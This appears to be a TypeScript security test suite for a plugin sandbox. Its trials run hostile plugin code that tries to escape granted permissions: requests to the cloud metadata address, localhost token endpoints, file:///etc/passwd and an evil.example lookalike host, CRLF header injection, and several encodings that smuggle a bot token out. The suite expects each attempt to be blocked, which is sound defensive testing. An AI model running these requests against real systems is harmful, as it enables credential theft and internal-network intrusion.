/** Reaching what was not granted, and getting the secret out of the place where it belongs. */
import { SECRET } from '../lab.ts';
import { byCode, hostile, inRealm, type Trial } from '../trial.ts';

const TOKEN = 'context.config.bot_token';

/** The plugin looks through what a granted request answers; the credential came back in it. */
const echoed: Trial = {
  name: 'the secret in the echo of a granted request',
  expected: /^removed from the answer$/,
  async run(lab) {
    using plugin = await lab.start(
      hostile({ body: 'const r = await context.fetch(API + "/echo"); context.log.info(r.body, r); return [r, "Bearer"];' }),
    );
    const result = await plugin.adapter.call('receive', [{}]);
    const text = JSON.stringify(result);
    if (!result.ok || !text.includes('Bearer')) return { stopped_by: 'nothing', escaped: `no echo came: ${text}` };
    return { stopped_by: 'removed from the answer', escaped: text.includes(SECRET) ? 'the secret' : lab.leaked() };
  },
};

const network: Trial[] = [
  byCode('a request to another origin', 'return (await context.fetch(OTHER + "/x")).body;', 'NETWORK_NOT_GRANTED'),
  byCode(
    'a request to the metadata service',
    'return (await context.fetch("http://169.254.169.254/latest/meta-data")).body;',
    'NETWORK_NOT_GRANTED',
  ),
  byCode(
    'a request to the host’s own port',
    'return (await context.fetch("http://localhost:8080/api/tokens")).body;',
    'NETWORK_NOT_GRANTED',
  ),
  byCode('a method that was not granted', 'return (await context.fetch(API + "/x", { method: "DELETE" })).status;', 'NETWORK_NOT_GRANTED'),
  byCode(
    'an origin that only begins like the granted one',
    'return (await context.fetch(API + ".evil.example/x")).body;',
    '(?:NETWORK_NOT_GRANTED|INVALID_PARAMS)',
  ),
  byCode(
    'a user name in front of another host',
    'return (await context.fetch(API.replace("http://", "http://127.0.0.1@") + "@evil.example")).body;',
    'INVALID_PARAMS',
  ),
  byCode('a file', 'return (await context.fetch("file:///etc/passwd")).body;', 'INVALID_PARAMS'),
  byCode(
    'a header that the host writes',
    'return (await context.fetch(API, { headers: { authorization: "Bearer mine" } })).body;',
    'HEADER_NOT_ALLOWED',
  ),
  byCode(
    'a header that ends another',
    'return (await context.fetch(API, { headers: { "x-a": "b\\r\\nx-c: d" } })).body;',
    'INVALID_PARAMS',
  ),
  byCode('a redirect to another origin', 'return (await context.fetch(API + "/redirect")).body;', 'REDIRECT_REFUSED'),
  byCode('an answer larger than granted', 'return (await context.fetch(API + "/large")).body.length;', 'TOO_LARGE'),
  byCode(
    'emit as another channel',
    'await context.emit({ event_id: "x", body: "y", channel_id: "neighbour" }); throw Object.assign(new Error(), { code: "ITS_OWN" });',
    'ITS_OWN',
  ),
];

const secrets: Trial[] = [
  inRealm({
    name: 'the secret in the configuration',
    body: `return ${TOKEN}.includes(${JSON.stringify(SECRET.slice(0, 9))}) ? ${TOKEN} : null;`,
  }),
  byCode(
    'the placeholder in a text',
    `return (await context.fetch(API + "/say", { method: "POST", json: { text: ${TOKEN} } })).body;`,
    'SECRET_MISPLACED',
  ),
  byCode('the placeholder in the address', `return (await context.fetch(API + "/x?t=" + ${TOKEN})).body;`, 'SECRET_MISPLACED'),
  byCode(
    'the placeholder in another header',
    `return (await context.fetch(API, { headers: { "x-t": ${TOKEN} } })).body;`,
    'SECRET_MISPLACED',
  ),
  byCode(
    'the placeholder for another origin',
    `return (await context.fetch(OTHER + "/x", { headers: { "x-t": ${TOKEN} } })).body;`,
    'NETWORK_NOT_GRANTED',
  ),
  byCode(
    'the placeholder, encoded',
    `return (await context.fetch(API + "/x?t=" + [...${TOKEN}].map((c) => "%" + c.charCodeAt(0).toString(16)).join(""))).body;`,
    'SECRET_MISPLACED',
  ),
  byCode(
    'the placeholder, encoded twice',
    `return (await context.fetch(API + "/x?t=" + encodeURIComponent([...${TOKEN}].map((c) => "%" + c.charCodeAt(0).toString(16)).join("")))).body;`,
    'SECRET_MISPLACED',
  ),
  byCode(
    'the placeholder in the name of a form field',
    `return (await context.fetch(API, { method: "POST", form: { [${TOKEN}]: "x" } })).body;`,
    'SECRET_MISPLACED',
  ),
  byCode(
    'the placeholder without its mark',
    `return (await context.fetch(API, { method: "POST", body: ${TOKEN}.slice(${TOKEN}.indexOf("_") + 1).toUpperCase() })).body;`,
    'SECRET_MISPLACED',
  ),
  byCode(
    'the placeholder past a redirect',
    `return (await context.fetch(API + "/redirect", { method: "POST", body: "x" })).body;`,
    'REDIRECT_REFUSED',
  ),
  echoed,
];

export const AUTHORITY = { name: 'authority', trials: network };
export const SECRETS = { name: 'secrets', trials: secrets };
